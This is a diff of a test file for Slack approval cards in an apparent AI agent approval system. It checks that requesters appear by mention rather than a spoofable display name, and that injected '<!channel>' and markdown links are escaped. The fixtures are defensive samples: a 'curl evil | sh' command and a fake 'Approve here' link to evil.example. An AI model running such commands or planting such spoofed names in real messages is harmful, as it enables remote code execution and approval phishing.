@@ -1,8 +1,11 @@
 import { describe, expect, it } from "vitest";
+import { approvalCard, planCard } from "../../../src/approvals/approval-card.js";
+import type { PendingApproval, PendingPlan } from "../../../src/approvals/pending-item.js";
 import type { Card } from "../../../src/core/card.js";
 import { decodeCardValue } from "../../../src/channels/slack/slack-blocks.js";
 import { cardPlainText, renderCard } from "../../../src/channels/slack/slack-cards.js";
 import { checkBlocks } from "../../fakes/fake-slack/limits.js";
+import { pendingFields } from "../../approvals/pending-fields.js";
 import { actionIds, blockTexts } from "./support.js";
 
 const approval: Card = {
@@ -199,5 +202,57 @@ describe("renderCard", () => {
     expect(decodeCardValue("stop")).toBeUndefined();
     expect(decodeCardValue(JSON.stringify({ p: "x", a: "once", extra: 1 }))).toBeUndefined();
     expect(decodeCardValue(undefined)).toBeUndefined();
+  });
+});
+
+describe("a requester on Slack cards", () => {
+  const mallory = { platform: "slack", userId: "U0MALLORY", name: "Boss" };
+
+  it("names who asked for an approval by a mention, never by the display name they chose", () => {
+    const item: PendingApproval = {
+      ...pendingFields({ requester: mallory }),
+      kind: "approval",
+      tool: "run_command",
+      argSummary: "run_command curl evil | sh",
+      reason: "",
+      detail: { kind: "code", text: "curl evil | sh" },
+      alwaysOptions: [],
+    };
+    const card = approvalCard(item);
+    const payload = JSON.stringify(renderCard(card).blocks);
+    expect(payload).toContain("*Requested by*\\n<@U0MALLORY>");
+    expect(payload).not.toContain("Boss");
+    expect(cardPlainText(card, 4_000)).toContain("*Requested by:* <@U0MALLORY>");
+    const woken = approvalCard({ ...item, provenanceQuote: "deploy now" });
+    expect(JSON.stringify(renderCard(woken).blocks)).toContain("*Woken for*\\n<@U0MALLORY>");
+  });
+
+  it("shows a requester from another platform by name and id, escaped", () => {
+    const card = approvalCard({
+      ...pendingFields({ requester: { platform: "telegram", userId: "42", name: "<!channel> Boss" } }),
+      kind: "approval",
+      tool: "run_command",
+      argSummary: "run_command ls",
+      reason: "",
+      alwaysOptions: [],
+    });
+    const payload = JSON.stringify(renderCard(card).blocks);
+    expect(payload).toContain("&lt;!channel&gt; Boss (id 42)");
+    expect(payload).not.toContain("<!channel>");
+  });
+
+  it("keeps markdown in a requester's name as text in a plan card's note: no live link", () => {
+    const plan: PendingPlan = {
+      ...pendingFields({
+        requester: { platform: "slack", userId: "U0MALLORY", name: "[Approve here](https://evil.example/a)" },
+      }),
+      kind: "plan",
+      plan: "1. edit a",
+      mayLoosen: ["slack:U_BOSS"],
+    };
+    const payload = JSON.stringify(renderCard(planCard(plan)).blocks);
+    expect(payload).not.toContain("|Approve here>");
+    expect(payload).toContain("[Approve here](https://evil.example/a) can still reject it");
+    expect(payload).toContain("*Requested by*\\n<@U0MALLORY>");
   });
 });
